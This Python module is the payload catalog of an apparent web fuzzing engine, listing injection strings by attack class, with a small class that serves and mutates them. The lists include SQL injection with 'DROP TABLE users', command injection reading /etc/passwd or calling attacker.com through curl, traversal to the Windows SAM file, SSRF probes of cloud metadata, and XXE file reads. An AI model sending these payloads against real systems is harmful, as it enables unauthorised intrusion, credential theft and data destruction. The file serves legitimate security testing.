"""
Attack payload catalog used by the fuzzing engine
"""

import json
from types import MappingProxyType
from typing import Any, Iterable, List, Mapping, Tuple


SQL_PAYLOADS = (
    "' OR '1'='1",
    "' OR 1=1--",
    "admin'--",
    "' UNION SELECT NULL--",
    "1' AND '1'='1",
    "'; DROP TABLE users--",
    "' OR 'x'='x",
    "1 AND 1=1",
    "1' ORDER BY 1--",
    "' UNION ALL SELECT NULL,NULL--",
)

NOSQL_PAYLOADS = (
    '{"$gt": ""}',
    '{"$ne": null}',
    '{"$where": "1==1"}',
    '{"$regex": ".*"}',
    '{"$exists": true}',
    '{"username": {"$ne": null}, "password": {"$ne": null}}',
)

XSS_PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "javascript:alert(1)",
    '<iframe src="javascript:alert(1)">',
    "<body onload=alert(1)>",
    "<input onfocus=alert(1) autofocus>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
)

COMMAND_PAYLOADS = (
    "; ls -la",
    "| whoami",
    "`id`",
    "$(id)",
    "; cat /etc/passwd",
    "& dir C:\\",
    "| type C:\\Windows\\System32\\drivers\\etc\\hosts",
    "; ping -c 4 127.0.0.1",
    "`curl http://attacker.com`",
)

PATH_TRAVERSAL_PAYLOADS = (
    "../../../etc/passwd",
    "..\\..\\..\\windows\\system32\\config\\sam",
    "....//....//....//etc/passwd",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..%252f..%252f..%252fetc%252fpasswd",
    "/etc/passwd%00.jpg",
)

AUTH_BYPASS_PAYLOADS = (
    "",
    " ",
    "null",
    "undefined",
    "{}",
    "[]",
    '{"admin": true}',
    '{"role": "admin"}',
    "Bearer null",
    "Bearer undefined",
    "Basic YWRtaW46YWRtaW4=",
    "../admin",
    "/admin",
)

SSRF_PAYLOADS = (
    "http://localhost",
    "http://127.0.0.1",
    "http://0.0.0.0",
    "http://169.254.169.254/latest/meta-data/",
    "http://metadata.google.internal/computeMetadata/v1/",
    "http://[::1]",
    "http://localhost:22",
    "file:///etc/passwd",
)

XXE_PAYLOADS = (
    '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
    '<?xml version="1.0"?><!DOCTYPE root [<!ENTITY test SYSTEM "file:///c:/windows/win.ini">]><root>&test;</root>',
)

INTEGER_PAYLOADS = (-1, 0, 2147483647, -2147483648, 9999999999, -9999999999)

BUFFER_PAYLOADS = ("A" * 1000, "A" * 10000, "A" * 100000)

GRAPHQL_PAYLOADS = (
    "{ __schema { types { name } } }",
    '{ __type(name: "Query") { fields { name } } }',
    "query IntrospectionQuery { __schema { queryType { name } mutationType { name } "
    "subscriptionType { name } types { ...FullType } } } "
    "fragment FullType on __Type { kind name fields(includeDeprecated: true) { name } }",
    "{ __typename }",
    "query { __schema { mutationType { fields { name } } } }",
)


class PayloadCatalog:
    """Immutable payload sets per attack class plus type-aware mutation"""

    def __init__(self, custom_payloads: Iterable[str] = ()):
        self.custom_payloads: Tuple[str, ...] = tuple(custom_payloads)
        self._payloads = MappingProxyType({
            "sql": SQL_PAYLOADS,
            "nosql": NOSQL_PAYLOADS,
            "xss": XSS_PAYLOADS,
            "command": COMMAND_PAYLOADS,
            "path_traversal": PATH_TRAVERSAL_PAYLOADS,
            "auth_bypass": AUTH_BYPASS_PAYLOADS,
            "ssrf": SSRF_PAYLOADS,
            "xxe": XXE_PAYLOADS,
            "integer": INTEGER_PAYLOADS,
            "buffer": BUFFER_PAYLOADS,
            "graphql": GRAPHQL_PAYLOADS,
        })

    def get_all(self) -> Mapping[str, Tuple[Any, ...]]:
        return self._payloads

    def get_by_type(self, kind: str) -> Tuple[Any, ...]:
        """Payloads for one class; unknown classes yield nothing"""
        return self._payloads.get(kind, ())

    def mutate_value(self, value: Any) -> List[Any]:
        """Mutations suited to the type of the original value"""
        if isinstance(value, str):
            return [
                *SQL_PAYLOADS,
                *XSS_PAYLOADS,
                *COMMAND_PAYLOADS,
                *PATH_TRAVERSAL_PAYLOADS,
                *BUFFER_PAYLOADS,
                *self.custom_payloads,
            ]
        if isinstance(value, bool):
            return []
        if isinstance(value, (int, float)):
            return list(INTEGER_PAYLOADS)
        if isinstance(value, (dict, list)):
            return [json.loads(payload) for payload in NOSQL_PAYLOADS]
        return []

    def graphql_payloads(self) -> Tuple[str, ...]:
        return GRAPHQL_PAYLOADS
